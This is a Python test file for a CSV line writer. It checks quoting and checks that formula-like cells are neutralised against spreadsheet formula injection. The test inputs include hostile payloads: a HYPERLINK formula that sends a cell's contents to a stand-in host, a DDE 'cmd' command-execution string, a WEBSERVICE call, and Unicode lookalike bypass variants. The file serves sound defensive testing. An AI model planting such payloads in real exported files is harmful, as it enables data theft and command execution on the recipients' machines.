from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from media_service.wire.csv_lines import line

CELLS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(st.characters(exclude_categories=["Cs"])),
)


def test_text_stands_in_quotes_and_numbers_do_not() -> None:
    cells = ("a", 'say "no"', "a,b", "two\r\nlines", "", None, 5, 0.1, True, "Übung")
    assert line(cells) == '"a","say ""no""","a,b","two\r\nlines","",,5,0.1,true,"Übung"\r\n'


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\n",
        '=HYPERLINK("http://elsewhere.example?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "  =1+1",
        "\N{NO-BREAK SPACE}=1",
        "\N{ZERO WIDTH NO-BREAK SPACE}@x",
        "\x00=1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "\N{FULLWIDTH COMMERCIAL AT}x",
        "\N{SMALL EQUALS SIGN}1",
        "\N{SMALL PLUS SIGN}1",
        "\N{SMALL HYPHEN-MINUS}1",
        "\N{SMALL COMMERCIAL AT}x",
        "\N{MINUS SIGN}1",
        "\N{SOFT HYPHEN}=1",
        "\N{ARABIC LETTER MARK}=1",
        "\N{INVISIBLE SEPARATOR}=1",
        "\N{RIGHT-TO-LEFT OVERRIDE}=1",
        "\N{MONGOLIAN VOWEL SEPARATOR}=1",
    ],
)
def test_what_a_spreadsheet_would_calculate_is_text(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(line([text]), newline=""))
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", ["1 = 1", "a+b", "film-2.mp4", "'quoted'", "me@example.org", "#5", "a\tb"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert line([text]) == f'"{text}"\r\n'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("Holiday;=WEBSERVICE(A1);", "Holiday;'=WEBSERVICE(A1);"),
        ('x; "=1', "x; \"'=1"),
        ("x;;\n+1", "x;;\n'+1"),
        ("x|@y", "x|'@y"),
        ("x\t\N{FULLWIDTH EQUALS SIGN}1", "x\t'\N{FULLWIDTH EQUALS SIGN}1"),
        ("\t=1", "'\t'=1"),
        ("=1;=2", "'=1;'=2"),
        ("a; b - c", "a; b - c"),
    ],
)
def test_what_would_be_a_cell_of_its_own_to_another_reader_is_text(text: str, safe: str) -> None:
    assert list(csv.reader(io.StringIO(line([text]), newline=""))) == [[safe]]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@settings(deadline=None)
@given(st.lists(st.text(st.sampled_from("=+-@;|,\t\r\n \"'a\N{FULLWIDTH EQUALS SIGN}")), min_size=1))
def test_no_cell_is_a_formula_whatever_divides_them(separator: str, texts: list[str]) -> None:
    written = line(texts)
    for skipping in (False, True):
        rows = csv.reader(io.StringIO(written, newline=""), delimiter=separator, skipinitialspace=skipping)
        for cell in (cell for row in rows for cell in row):
            assert cell.lstrip()[:1] not in {*"=+-@", "\N{FULLWIDTH EQUALS SIGN}"}, cell


@given(st.lists(CELLS, min_size=1))
def test_a_reader_finds_the_very_cells(cells: list[str | int | float | bool | None]) -> None:
    [found] = csv.reader(io.StringIO(line(cells), newline=""))
    assert len(found) == len(cells)
    for cell, text in zip(cells, found, strict=True):
        match cell:
            case None:
                assert not text
            case bool():
                assert text == str(cell).lower()
            case str():
                assert text.replace("'", "") == cell.replace("'", "")
                assert text.lstrip()[:1] not in {"=", "+", "-", "@"}
            case _:
                assert type(cell)(text) == cell
